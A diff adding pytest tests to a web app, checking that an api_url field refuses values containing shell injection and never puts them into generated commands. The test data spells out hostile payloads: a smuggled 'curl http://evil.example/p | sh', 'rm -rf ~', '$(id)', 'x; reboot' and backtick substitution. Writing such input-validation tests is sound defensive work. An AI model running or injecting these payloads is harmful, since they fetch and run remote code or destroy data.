@@ -113,6 +113,30 @@ def test_an_article_form_without_javascript_comes_back_filled_and_stores_nothing
     assert all(not rows for rows in _every_row(app).values())
 
 
+INJECTION = 'api.example.com/x" \\\n && curl -s http://evil.example/p | sh && echo "'
+
+
+def test_a_value_a_shell_would_run_is_refused_and_nothing_is_saved(client):
+    diagnosis_id = start(client)
+    answer = fill(client, diagnosis_id, api_url=INJECTION)
+    assert answer.status_code == 422 and "api_url cannot hold" in answer.text
+    token = form_token(client, f"/d/{diagnosis_id}")
+    scripted = client.post(
+        f"/d/{diagnosis_id}/fields",
+        data={"csrf_token": token, "api_url": "a.example && rm -rf ~"},
+        headers={"Accept": "application/json"},
+    )
+    assert scripted.status_code == 422 and "&" in scripted.get_json()["errors"]["api_url"]
+    assert client.get(f"/api/diagnoses/{diagnosis_id}").get_json()["fields"] == {}
+    assert "evil.example" not in client.get(f"/d/{diagnosis_id}").text
+
+
+@pytest.mark.parametrize("value", [INJECTION, "$(id)", "x; reboot", "a`id`", "x #", "\u202eexe"])
+def test_a_link_never_puts_a_value_a_shell_would_run_into_a_command(client, value):
+    html = client.get("/a/mail/issue-emails-not-sending", query_string={"api_url": value}).text
+    assert 'data-field="api_url">https://api.example.com</span>/health' in html
+
+
 def test_a_link_fills_a_page_but_never_a_secret_field(client):
     page = "/a/mail/issue-emails-not-sending"
     html = client.get(f"{page}?api_url=https://q.example&RESEND_API_KEY={SECRET}").text
